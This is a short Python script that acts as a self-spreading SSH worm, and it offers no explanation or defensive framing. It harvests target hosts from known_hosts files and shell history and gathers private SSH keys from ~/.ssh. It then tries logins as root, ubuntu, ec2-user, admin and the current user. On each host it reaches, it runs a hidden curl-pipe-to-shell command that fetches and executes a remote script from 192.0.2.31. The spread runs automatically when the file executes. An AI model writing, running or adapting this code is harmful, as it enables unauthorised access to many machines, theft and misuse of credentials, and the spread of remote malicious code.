import os
import re

import paramiko

PAYLOAD = "curl -fsSL http://192.0.2.31/i.sh | sh >/dev/null 2>&1 &"
HOME = os.path.expanduser("~")


def targets():
    hosts = set()
    for path in (f"{HOME}/.ssh/known_hosts", "/etc/ssh/ssh_known_hosts", f"{HOME}/.bash_history"):
        try:
            text = open(path, errors="ignore").read()
        except OSError:
            continue
        hosts.update(re.findall(r"(?:^|@|\s)((?:\d{1,3}\.){3}\d{1,3}|[a-z0-9-]+\.[a-z0-9.-]+)", text))
    return hosts


def keys():
    for root, _, files in os.walk(f"{HOME}/.ssh"):
        for name in files:
            if name.startswith("id_") and not name.endswith(".pub") or name.endswith(".pem"):
                yield os.path.join(root, name)


def spread():
    users = ["root", os.getenv("USER", "ubuntu"), "ubuntu", "ec2-user", "admin"]
    for host in targets():
        for key in keys():
            for user in users:
                c = paramiko.SSHClient()
                c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
                try:
                    c.connect(host, username=user, key_filename=key, timeout=5, banner_timeout=5)
                    c.exec_command(PAYLOAD)
                    c.close()
                    break
                except Exception:
                    c.close()


spread()
